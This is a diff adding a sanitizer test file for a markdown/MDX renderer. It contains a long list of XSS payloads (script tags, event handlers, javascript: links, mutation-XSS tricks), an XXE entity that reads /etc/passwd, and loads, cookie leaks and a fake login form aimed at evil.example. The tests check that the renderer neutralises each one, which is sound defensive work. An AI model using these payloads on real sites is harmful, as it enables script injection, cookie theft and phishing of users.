@@ -1,0 +1,248 @@
+import fc from 'fast-check'
+import { expect, test } from 'vitest'
+import { TextRefused } from './refused.ts'
+import { render } from './render.ts'
+
+const TAGS =
+  'p br hr h2 h3 h4 h5 h6 blockquote ul ol li pre code em strong del sup a img figure figcaption span div section table thead tbody tr th td details summary'
+const ATTRIBUTES =
+  'id class href rel title src srcset sizes width height alt loading decoding start align scope role tabindex aria-label aria-hidden aria-describedby data-seed data-embed data-video data-title data-technology data-correct data-footnotes data-footnote-ref data-footnote-backref data-code data-table'
+const tags = new Set(TAGS.split(' '))
+const attributes = new Set(ATTRIBUTES.split(' '))
+
+/** Reads stored HTML as strictly as it is written; anything unexpected is a fault. */
+function faultsOf(html: string): string[] {
+  const faults: string[] = []
+  const rest = html.replaceAll(
+    /<(\/?)([a-z][a-z0-9]*)((?:\s[a-z-]+(?:="[^"]*")?)*)>/g,
+    (...parts: string[]) => {
+      const [whole = '', , name, list] = parts
+      if (!tags.has(String(name))) faults.push(whole)
+      for (const [, attribute = '', value = ''] of String(list).matchAll(/\s([a-z-]+)(?:="([^"]*)")?/g)) {
+        if (!attributes.has(attribute)) faults.push(whole)
+        if (attribute === 'href' && !/^(https?:\/\/|mailto:|#h-|\/(?!\/)|\?|[\w.%][^:]*$|$)/i.test(value))
+          faults.push(whole)
+        if (attribute === 'src' && !/^\/(?!\/|api\/)/.test(value)) faults.push(whole)
+        if (attribute === 'srcset' && !/^(\/_image\?url=%2Ffiles%2F[^ ]+ \d+w(, |$))+$/.test(value))
+          faults.push(whole)
+        if (attribute === 'id' && !value.startsWith('h-')) faults.push(whole)
+      }
+      return ''
+    },
+  )
+  if (rest.includes('<')) faults.push(rest.slice(rest.indexOf('<'), rest.indexOf('<') + 80))
+  return faults
+}
+
+function outcome(source: string): string[] {
+  try {
+    return faultsOf(render(source, { imageHosts: ['ok.example'] }).html)
+  } catch (error) {
+    // A parser's own fault is hidden from authors, not from this test.
+    return error instanceof TextRefused && !error.reason.includes('could not be read') ? [] : [String(error)]
+  }
+}
+
+const vectors = [
+  '<script>alert(1)</script>',
+  '<SCRIPT SRC=//x.example/x.js>',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '<script/x>alert(1)</script>',
+  '<script\n>alert(1)</script\n>',
+  '<<script>alert(1)//<</script>',
+  '<img src=x onerror=alert(1)>',
+  '<img src="x" onerror="alert(1)"/>',
+  '<img/src=x/onerror=alert(1)>',
+  '<img src=`x`onerror=alert(1)>',
+  '<img src="x`<script>alert(1)</script>"`>',
+  '<IMG SRC=javascript:alert(1)>',
+  '<Img src="javascript:alert(1)" />',
+  '<Img src="data:image/svg+xml;base64,PHN2Zz4=" />',
+  '<Img src="https://ok.example/a.png" onLoad={alert(1)} style={{position: "fixed"}} />',
+  '<Img {...{src: "x", onError: alert}} />',
+  '<Img src={`https://ok.example/${document.cookie}`} />',
+  '<Img src="https://ok.example@evil.example/a.png" />',
+  '<Img src="//evil.example/a.png" />',
+  '<Img src="/api/auth/signout" />',
+  '<Img src="/_image?url=http://127.0.0.1" />',
+  '<Img src="https://ok.example/a.png" alt=\'"><svg onload=alert(1)>\' />',
+  '<Img src="https://ok.example/&quot;onerror=&quot;alert(1)" />',
+  '<img src="/files/content/a-4x3.webp" srcset="//evil.example/a 1w" sizes="1px" width="99999">',
+  '![x](/files/content/a-99999x99999.webp "onload=alert(1)")',
+  '<svg onload=alert(1)>',
+  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
+  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
+  '<svg><style><img src=x onerror=alert(1)></style></svg>',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+  '<math href="javascript:alert(1)">x</math>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
+  '<p><style><a id="</style><img src=x onerror=alert(1)>">',
+  '<template><img src=x onerror=alert(1)></template>',
+  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
+  '<title><img src=x onerror=alert(1)></title>',
+  '<textarea><img src=x onerror=alert(1)></textarea>',
+  '<iframe src="javascript:alert(1)"></iframe>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<object data="data:text/html,<b>x"></object>',
+  '<embed src="//evil.example/x.swf">',
+  '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
+  '<button formaction=javascript:alert(1)>x</button>',
+  '<style>@import "//evil.example/x.css";</style>',
+  '<link rel=stylesheet href=//evil.example/x.css>',
+  '<meta http-equiv=refresh content="0;url=//evil.example">',
+  '<base href=//evil.example/>',
+  '<a href="javascript:alert(1)">x</a>',
+  '<details open ontoggle=alert(1)>',
+  '<video><source onerror=alert(1)></video>',
+  '<VideoPlayer src="javascript:alert(1)" />',
+  '<VideoPlayer src="data:text/html,x" />',
+  "<LiteYouTube videoId='\"><img src=x>' />",
+  '<LiteYouTube videoId="oEGNKIj1TmI" title=\'"><img src=x onerror=alert(1)>\' />',
+  "<TechTutorials tech='\"><b>' />",
+  '<SponsoredContentImage src="https://ok.example/a.png" href="javascript:alert(1)" />',
+  '<Quiz questions={[{question: "<img src=x onerror=alert(1)>", answers: ["<b>", "\\"><b>"], correct: 0}]} />',
+  '<Quiz questions={[{__proto__: {question: "x"}, constructor: 1}]} />',
+  '<Quiz questions={[&a [*a, *a], *a]} />',
+  '<constructor>x</constructor><toString /><__proto__ /><hasOwnProperty x={1} />',
+  '<Img.constructor src="x" /><a:b c:d="e" />',
+  '[x](javascript:alert(1))',
+  '[x](JaVaScRiPt:alert(1))',
+  '[x](java&#9;script:alert(1))',
+  '[x](java&NewLine;script:alert(1))',
+  '[x](&#106;avascript:alert(1))',
+  '[x](\u0001javascript:alert(1))',
+  '[x](&#1;javascript:alert(1))',
+  '[x](<javascript:alert(1)>)',
+  '[x]( javascript:alert(1) "t")',
+  '[x][r]\n\n[r]: javascript:alert(1)',
+  '[x](vbscript:msgbox(1)) [y](data:text/html;base64,PHN2Zz4=) [z](blob:x) [w](file:///etc/passwd)',
+  '[x](view-source:javascript:alert(1)) [y](feed:javascript:alert(1))',
+  '[x](https://good.example@evil.example)',
+  '[x](//evil.example) [y](/\\evil.example) [z](\\\\evil.example) [w](///evil.example)',
+  '<javascript:alert(1)> <data:text/html,x>',
+  '![x](javascript:alert(1)) ![y](data:image/png;base64,AAAA) ![z](http://127.0.0.1/a.png)',
+  '![" onerror="alert(1)](https://ok.example/a.png \'" onload="alert(1)\')',
+  '![x][r]\n\n[r]: <javascript:alert(1)>',
+  'www.example.org/"onmouseover="alert(1) https://a.example/<b>',
+  '## <img src=x onerror=alert(1)>',
+  '## constructor\n\n## __proto__\n\n## location\n\n## cookie',
+  '[^"><img src=x onerror=alert(1)>]\n\n[^"><img src=x onerror=alert(1)>]: x',
+  '[^__proto__]\n\n[^__proto__]: <svg onload=alert(1)>',
+  '```"><img src=x onerror=alert(1)>\nx\n```',
+  '```js onload=alert(1) title="</code><script>"\nx\n```',
+  '```__proto__\nx\n```\n\n```constructor\nx\n```',
+  '```html\n</code></pre><script>alert(1)</script>\n```',
+  '`</code><script>alert(1)</script>`',
+  '| <script>alert(1)</script> | a |\n|-|-|\n| <img src=x onerror=alert(1)> | b |',
+  '- [x] <input autofocus onfocus=alert(1)>',
+  '<!-- --!><img src=x onerror=alert(1)> -->',
+  '<!--><img src=x onerror=alert(1)>-->',
+  '<![CDATA[<img src=x onerror=alert(1)>]]>',
+  '<?xml version="1.0"?><x onclick=alert(1)>',
+  '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;',
+  '&lt;img src=x onerror=alert(1)&gt;',
+  '{alert(1)}<b>{<img src=x onerror=alert(1)>}</b>',
+  'export const x = <script>alert(1)</script>',
+  '<b x={"</b><script>"}>y</b>',
+  '> <Img\nsrc="https://ok.example/a.png"\nonerror="alert(1)" />',
+  '[a <Img src="https://x.example/b.png" /> <LiteYouTube videoId="oEGNKIj1TmI" />](https://c.example)',
+  '\uD800<img src=x onerror=alert(1)>\uDFFF',
+]
+
+test('no vector leaves more in the page than the allow-list', () => {
+  expect(vectors.length).toBeGreaterThanOrEqual(60)
+  expect(
+    vectors.filter((vector) => outcome(vector).length > 0).map((vector) => [vector, outcome(vector)]),
+  ).toEqual([])
+})
+
+test('a vector stays harmless wherever it stands', () => {
+  const places = ['> ', '- ', '1. ', '**', '# ', 'a ', '<div>\n\n', '[l](', '![', '| a |\n|-|\n| ']
+  const bad = places
+    .flatMap((place) => vectors.map((vector) => place + vector))
+    .filter((one) => outcome(one).length > 0)
+  expect(bad).toEqual([])
+})
+
+test('the check itself sees what must not be there', () => {
+  for (const html of [
+    '<svg></svg>',
+    '<a href="javascript:x">',
+    '<p onclick="x">',
+    '<img src="https://x">',
+    '<img src="/x" srcset="https://x 1w">',
+    '<p id="a">',
+    '<',
+  ]) {
+    expect(faultsOf(html)).not.toEqual([])
+  }
+})
+
+test('any text is shown safely or refused, and nothing else ever happens', () => {
+  const crumbs = [
+    '<',
+    '>',
+    '</',
+    '/>',
+    '<Img ',
+    'src="',
+    '"',
+    "'",
+    '{',
+    '}',
+    '`',
+    '```',
+    '\n',
+    '\n\n',
+    '> ',
+    '- ',
+    '1. ',
+  ]
+  const words = [
+    '<br>',
+    '<!--',
+    '-->',
+    '<b>',
+    '</b>',
+    '[',
+    '](',
+    ')',
+    '![',
+    '[^1]',
+    '[^1]: ',
+    '|',
+    '\n|-|\n',
+    '# ',
+    '*',
+    '_',
+    '~~',
+    '\\',
+    '&lt;',
+  ]
+  const more = [
+    'https://ok.example/',
+    'javascript:',
+    'onerror=',
+    '<Quiz questions={[',
+    '\t',
+    '    ',
+    ' ',
+    'a',
+    '\u0000',
+    '\uD800',
+    '=',
+    ':',
+    'www.a.b',
+  ]
+  const soup = fc
+    .array(fc.constantFrom(...crumbs, ...words, ...more), { maxLength: 60 })
+    .map((parts) => parts.join(''))
+  fc.assert(
+    fc.property(
+      fc.oneof(soup, soup, fc.string({ maxLength: 200, unit: 'binary' })),
+      (source) => outcome(source).length === 0,
+    ),
+    { numRuns: 1500 },
+  )
+}, 120_000)
